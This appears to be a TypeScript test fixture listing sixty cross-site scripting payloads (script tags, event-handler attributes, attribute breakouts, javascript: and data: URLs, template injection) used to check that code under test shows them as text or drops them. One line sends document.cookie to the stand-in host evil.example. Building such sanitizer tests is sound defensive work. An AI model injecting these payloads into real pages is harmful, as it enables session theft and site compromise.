/**
 * Sixty texts that try to run code in a page. Each, if it runs, sets `window.hacked`, opens a dialog or requests something from
 * evil.example; a test watches for all three. They are data: the code under test shows them as text or drops them.
 */

/** The statement that a payload runs. */
const run = 'window.hacked=1';

/** The payloads, sixty of them. */
export const xssPayloads: string[] = [
  // Elements that run code by themselves.
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script/x>${run}</script>`,
  `</script><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>fetch("https://evil.example/?c="+document.cookie)</script>`,
  `<script type="module">import("https://evil.example/x.js")</script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=window.hacked=1//`,
  `<img/src=x/onerror=${run}>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<img srcset="https://evil.example/pixel.gif 1x">`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="https://evil.example/x.svg#a"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<body onload=${run}>`,
  `<iframe src="javascript:parent.hacked=1"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=prefetch href=https://evil.example/x>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><input type=submit autofocus></form>`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  // Breaking out of an attribute.
  `"><img src=x onerror=${run}>`,
  `'><svg onload=${run}>`,
  `" onmouseover="${run}" autofocus onfocus="${run}`,
  `' onerror='${run}`,
  `x" style="background:url(https://evil.example/x)`,
  // Addresses.
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript://%0a${run}`,
  `data:text/html,<script>parent.hacked=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `vbscript:msgbox(1)`,
  `//evil.example/pixel.png`,
  `https://evil.example/pixel.png`,
  // Templates, and texts of another syntax.
  `{{constructor.constructor("${run}")()}}`,
  `\${${run}}`,
];
